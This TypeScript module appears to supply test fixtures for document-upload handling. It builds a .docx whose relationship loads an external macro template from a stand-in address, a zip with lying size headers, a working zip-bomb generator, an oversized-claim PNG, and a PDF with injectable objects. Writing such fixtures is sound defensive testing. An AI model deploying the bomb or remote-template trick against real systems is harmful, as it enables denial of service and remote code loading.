import { deflateRawSync, deflateSync } from 'node:zlib'
import { strToU8, zipSync, type Zippable } from 'fflate'

const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`
const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const types =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const relationships = (inside: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`
const officeDocument =
  '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'

/** The smallest .docx Word opens, with parts put in place of or beside its own. */
export function docxWith(
  parts: Record<string, string | Uint8Array> = {},
  lines = ['正文'],
): Buffer<ArrayBuffer> {
  const own: Record<string, string> = {
    '[Content_Types].xml': types,
    '_rels/.rels': relationships(officeDocument),
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8"?><w:document ${word}><w:body>${lines.map(paragraph).join('')}</w:body></w:document>`,
  }
  const all = Object.entries({ ...own, ...parts }).map(([name, content]) => [
    name,
    typeof content === 'string' ? strToU8(content) : content,
  ])
  return Buffer.from(zipSync(Object.fromEntries(all) as Zippable))
}

export const outsideTemplate = (type = 'attachedTemplate', mode = 'TargetMode="External"') =>
  relationships(
    `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://203.0.113.9/t.dotm" ${mode}/>`,
  )

type Part = { name: string; deflated: Buffer; saysSize: number }

/** A zip written by hand, so that its headers may lie. */
export function zipOf(parts: readonly Part[]): Buffer<ArrayBuffer> {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const { name, deflated, saysSize } of parts) {
    const bytes = Buffer.from(name)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(deflated.length, 18)
    local.writeUInt32LE(saysSize, 22)
    local.writeUInt16LE(bytes.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(8, 10)
    central.writeUInt32LE(deflated.length, 20)
    central.writeUInt32LE(saysSize, 24)
    central.writeUInt16LE(bytes.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, bytes, deflated)
    centrals.push(central, bytes)
    offset += 30 + bytes.length + deflated.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.length, 8)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

/** Ten megabytes that want to become ten gigabytes: one deflated gigabyte of zeros, put together from equal blocks. */
export function bomb(saysSize = 0xff_ff_ff_f0): Buffer<ArrayBuffer> {
  // A stored-nothing block boundary (full flush) lets equal deflated blocks be joined end to end.
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: 3 })
  const deflated = Buffer.concat([...Array.from({ length: 1_024 }, () => block), Buffer.from([3, 0])])
  return zipOf(Array.from({ length: 10 }, (_, i) => ({ name: `word/media/${i}.emf`, deflated, saysSize })))
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc = (bytes: Buffer) => {
  let c = 0xffffffff
  for (const byte of bytes) c = (crcTable[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc(body))
  return Buffer.concat([length, body, sum])
}

/** A PNG that says it is this large; its picture is one grey row whatever it says. */
export function pngOf(width: number, height: number, text?: string): Buffer<ArrayBuffer> {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 8
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    ...(text === undefined ? [] : [chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1'))]),
    chunk('IDAT', deflateSync(Buffer.alloc(Math.min(width, 4_096) + 1))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A one-page PDF by hand, with objects of one's own beside its page. */
export function pdfOf(lines: readonly string[] = ['text'], extra = ''): Buffer<ArrayBuffer> {
  const content = `BT /F1 12 Tf 72 720 Td ${lines.map((l) => `(${l}) Tj 0 -16 Td`).join(' ')} ET`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...(extra ? [extra] : []),
  ]
  let text = '%PDF-1.4\n'
  const offsets: number[] = []
  for (const [i, object] of objects.entries()) {
    offsets.push(text.length)
    text += `${i + 1} 0 obj\n${object}\nendobj\n`
  }
  const start = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}
